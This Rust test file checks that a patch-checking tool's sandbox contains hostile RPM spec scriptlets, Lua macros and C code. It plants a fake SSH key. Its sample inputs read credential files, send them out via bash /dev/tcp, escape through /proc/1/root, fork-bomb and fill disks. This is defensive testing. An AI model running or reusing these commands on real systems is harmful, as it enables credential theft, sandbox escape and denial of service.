//! Hostile trees: what a spec, a scriptlet and code try to read, reach, fill and leave behind, by every way that a check runs them.

use std::net::TcpListener;
use std::path::Path;
use std::process::Stdio;
use std::thread;
use std::time::{Duration, Instant};

use crate::given::{Ground, replaced, told};
use crate::support::{Bench, have};
use patchwright::check::Outcome;

const SPEC: &str = "libvirt.spec.in";
const CODE: &str = "src/qemu/qemu_capabilities.c";
const SECRET: &str = "kept-from-everybody-5cd21f";

/// What is worth something to a thief, and where it would show that he had it.
struct Trap {
    bench: Bench,
    listener: TcpListener,
    /// How long what outlives the run sleeps: a number that nothing else has.
    nap: String,
}

impl Trap {
    fn new(nap: u32) -> Self {
        let bench = Bench::new();
        bench.sample("tree");
        bench.write("home/.ssh/id", SECRET);
        bench.write("home/header.h", &format!("#define STOLEN \"{SECRET}\"\n"));
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let nap = format!("{nap}{}", std::process::id());
        Trap {
            bench,
            listener,
            nap,
        }
    }

    fn path(&self, name: &str) -> String {
        self.bench.path(name).display().to_string()
    }

    /// A script that tries everything, in words that need no quoting in C, a spec or Lua.
    fn script(&self) -> String {
        let port = self.listener.local_addr().unwrap().port();
        let (home, root) = (self.path("home"), self.path(""));
        let root = root.trim_end_matches('/');
        format!(
            "cat {home}/.ssh/id; cat /proc/1/root{home}/.ssh/id; cat {root}/../*/home/.ssh/id; env; \
             echo x >{home}/mark; echo x >{root}/mark; echo x >/usr/mark; ln -s {home}/mark /var/mark; \
             bash -c 'cat {home}/.ssh/id >/dev/tcp/127.0.0.1/{port}; cat </dev/tcp/127.0.0.1/{port}'; \
             mount --bind / /tmp; chroot /proc/1/root cat {home}/.ssh/id; \
             (setsid sleep {} >/dev/null 2>/dev/null </dev/null &); :",
            self.nap
        )
    }

    /// Asserts that nothing was read, reached, written or left.
    fn is_untouched(&self, said: &[&str]) {
        for said in said {
            assert!(!said.contains(SECRET), "the secret is told: {said}");
        }
        for folder in ["outgoing", "outgoing.failed"] {
            if !self.bench.path(folder).exists() {
                continue;
            }
            for (path, bytes) in self.bench.contents(folder) {
                let text = String::from_utf8_lossy(&bytes);
                assert!(
                    !text.contains(SECRET),
                    "the secret is in {}",
                    path.display()
                );
            }
        }
        for mark in [
            self.path("home/mark"),
            self.path("mark"),
            "/usr/mark".to_owned(),
            "/var/mark".to_owned(),
        ] {
            assert!(
                Path::new(&mark).symlink_metadata().is_err(),
                "{mark} was written"
            );
        }
        assert!(self.listener.accept().is_err(), "somebody called");
        assert!(!is_running(&self.nap), "something outlives the run");
    }
}

/// Whether a process has a word among its arguments.
fn is_running(word: &str) -> bool {
    let processes = std::fs::read_dir("/proc").unwrap().flatten();
    processes
        .filter_map(|entry| std::fs::read(entry.path().join("cmdline")).ok())
        .any(|line| {
            line.split(|byte| *byte == 0)
                .any(|own| own == word.as_bytes())
        })
}

#[test]
fn a_hostile_spec_and_its_scriptlets_get_at_nothing() {
    if !have(&["rpmspec", "rpmbuild", "rpm", "bwrap"]) {
        return;
    }
    let trap = Trap::new(81_000);
    let script = trap.script();
    let spec = trap.bench.read(&format!("tree/{SPEC}"));
    let lua = format!(
        "%{{lua: local f = io.open(\"{}/.ssh/id\"); if f then print(f:read(\"*a\")) end; os.execute([==[{script}]==])}}",
        trap.path("home")
    );
    let hostile = format!("%global stolen %({script})\n%global more {lua}\n{spec}");
    let hostile = replaced(
        &hostile,
        "%post daemon\n",
        &format!("%post daemon\n{script}\n# %{{stolen}} %{{more}}\n"),
    );
    let hostile = replaced(&hostile, "%prep\n", &format!("%prep\n{script}\n"));
    trap.bench.write(&format!("tree/{SPEC}"), &hostile);
    for name in ["configure", "Makefile", "autogen.sh"] {
        trap.bench.write(
            &format!("tree/{name}"),
            &format!("#!/bin/sh\nall:\n\t{script}\n"),
        );
    }
    trap.bench.git("tree", &["add", "-A"]);
    trap.bench.git("tree", &["commit", "-qm", "hostile"]);
    let checks = "lint,syntax,compile,behaviour,package";
    let args = [
        "generate",
        "--repo",
        "tree",
        "--from",
        "A <a@example.org>",
        "--check",
        checks,
        "--keep-failed",
    ];
    let left = trap.bench.run(&args);
    assert!(left.stdout.contains("package"), "{left}");
    trap.is_untouched(&[&left.stdout, &left.stderr]);
    assert!(
        trap.bench.path("outgoing").exists() || trap.bench.path("outgoing.failed").exists(),
        "{left}"
    );
}

#[test]
fn hostile_code_gets_at_nothing() {
    if !have(&["gcc", "bwrap"]) {
        return;
    }
    let trap = Trap::new(82_000);
    let Some(ground) =
        Ground::at("mainline").map(|ground| ground.asking(&["syntax", "compile", "behaviour"]))
    else {
        return;
    };
    let text = ground.text(CODE);
    let fixed = replaced(&text, "selfctime < virGetSelf", "selfctime != virGetSelf");
    let home = trap.path("home");
    let script = trap.script();
    let first = "    /* Ask again if what was kept";
    let inside = |code: &str| replaced(&fixed, first, &format!("{code}\n{first}"));
    let above = |code: &str| format!("{code}\n{fixed}");
    for hostile in [
        above(&format!(
            "#include \"{home}/header.h\"\nconst char *stolen = STOLEN;"
        )),
        above(&format!(
            "#include <../../../../../../../..{home}/header.h>\n#pragma message STOLEN"
        )),
        above(&format!("__asm__(\".incbin \\\"{home}/.ssh/id\\\"\");")),
        above(&format!(
            "#if __has_include(\"{home}/.ssh/id\")\n#error {SECRET}\n#endif"
        )),
        above(&format!(
            "extern int system(const char *);\nvoid early(void) __attribute__((constructor));\nvoid early(void)\n{{\n    system(\"{script}\");\n}}"
        )),
        inside(&format!(
            "    extern int system(const char *);\n    if (system(\"{script}\") != 0)\n        return -1;"
        )),
        inside(&format!(
            "    {{\n        char stolen[100] = \"\";\n        FILE *file = fopen(\"{home}/.ssh/id\", \"r\");\n        if (file && fgets(stolen, 100, file))\n            fputs(stolen, stderr);\n    }}"
        )),
    ] {
        let account = ground.change(CODE, &hostile);
        trap.is_untouched(&[&told(&account)]);
        for patch in &account.patches {
            for record in patch.evidence.iter().flat_map(|evidence| &evidence.records) {
                let text =
                    String::from_utf8_lossy(&record.bytes).replace(&format!("#error {SECRET}"), "");
                assert!(!text.contains(SECRET), "the secret is in {}", record.name);
            }
        }
    }
}

/// What takes without end.
const GREEDY: [(&str, &str); 3] = [
    ("while :; do sleep 600 & done", "processes"),
    (
        "n=0; while :; do head -c 9000000 /dev/zero >/var/cache/$n; n=$((n+1)); done",
        "disk",
    ),
    (
        "head -c 900000000 /dev/zero >/var/cache/large; kill -XFSZ $$",
        "file size",
    ),
];

#[test]
fn a_scriptlet_that_takes_without_end_is_ended_and_that_is_told() {
    let Some(ground) = Ground::at("mainline") else {
        return;
    };
    let ground = ground.for_two_distributions().asking(&["behaviour"]);
    let text = ground.text(SPEC);
    for (greedy, limit) in GREEDY {
        let begun = Instant::now();
        let lines = format!("%post daemon\n{greedy}\n");
        let account = ground.change(SPEC, &replaced(&text, "%post daemon\n", &lines));
        let all = told(&account);
        assert_eq!(account.exit(false).code(), 1, "{greedy}\n{all}");
        assert!(
            all.contains(&format!("its limit of {limit}")),
            "{greedy}\n{all}"
        );
        assert!(
            begun.elapsed() < Duration::from_secs(180),
            "{greedy}: {:?}",
            begun.elapsed()
        );
    }
}

#[test]
fn a_spec_that_takes_without_end_when_it_is_read_is_ended_and_that_is_told() {
    let Some(ground) = Ground::at("mainline") else {
        return;
    };
    let ground = ground.for_two_distributions().asking(&["syntax"]);
    let text = ground.text(SPEC);
    let account = ground.change(
        SPEC,
        &format!("%global x %(while :; do sleep 600 & done)\n{text}"),
    );
    let all = told(&account);
    assert_ne!(account.exit(true).code(), 0, "{all}");
    assert!(all.contains("its limit of processes"), "{all}");
}

#[test]
fn code_that_forks_without_end_fails_and_is_gone() {
    let Some(ground) = Ground::at("mainline") else {
        return;
    };
    let ground = ground.asking(&["behaviour"]);
    let fixed = replaced(
        &ground.text(CODE),
        "selfctime < virGetSelf",
        "selfctime != virGetSelf",
    );
    let first = "    /* Ask again if what was kept";
    let bomb = format!("    extern int fork(void);\n    for (;;)\n        fork();\n{first}");
    let account = ground.change(CODE, &replaced(&fixed, first, &bomb));
    let behaviour: Vec<Outcome> = account.patches[0]
        .evidence
        .iter()
        .map(|evidence| evidence.outcome)
        .collect();
    assert!(!behaviour.contains(&Outcome::Passed), "{}", told(&account));
    assert_ne!(account.exit(true).code(), 0, "{}", told(&account));
}

#[test]
fn a_run_that_is_killed_takes_all_with_it_that_it_started() {
    if !have(&["rpmspec", "bwrap", "unshare", "setpriv"]) {
        return;
    }
    for by_unshare in [false, true] {
        let trap = Trap::new(83_000 + u32::from(by_unshare));
        let lines = format!("%post daemon\n(setsid sleep {} &)\nsleep 600\n", trap.nap);
        trap.bench.commit("tree", SPEC, "%post daemon\n", &lines);
        let mut command = trap.bench.command(env!("CARGO_BIN_EXE_patchwright"));
        command
            .args([
                "generate",
                "--repo",
                "tree",
                "--from",
                "A <a@example.org>",
                "--check",
                "behaviour",
            ])
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        if by_unshare {
            command.env("PATH", without_bubblewrap(&trap.bench));
        }
        let mut run = command.spawn().unwrap();
        let since = Instant::now();
        while !is_running(&trap.nap) {
            assert!(
                since.elapsed() < Duration::from_secs(60),
                "the scriptlet is not run"
            );
            thread::sleep(Duration::from_millis(20));
        }
        run.kill().unwrap();
        run.wait().unwrap();
        // What was just being started has not begun yet, and must not begin either.
        let killed = Instant::now();
        let mut seen = killed;
        while seen.elapsed() < Duration::from_secs(1) {
            if is_running(&trap.nap) {
                seen = Instant::now();
            }
            let waited = killed.elapsed() < Duration::from_secs(10);
            assert!(waited, "by unshare: {by_unshare}: it runs on");
            thread::sleep(Duration::from_millis(20));
        }
        trap.is_untouched(&[]);
    }
}

/// A PATH on which bubblewrap does not work.
fn without_bubblewrap(bench: &Bench) -> std::ffi::OsString {
    use std::os::unix::fs::PermissionsExt;
    bench.write("broken/bwrap", "#!/bin/sh\nexit 1\n");
    let file = bench.path("broken/bwrap");
    std::fs::set_permissions(file, std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut path = bench.path("broken").into_os_string();
    path.push(":");
    path.push(std::env::var_os("PATH").unwrap_or_default());
    path
}
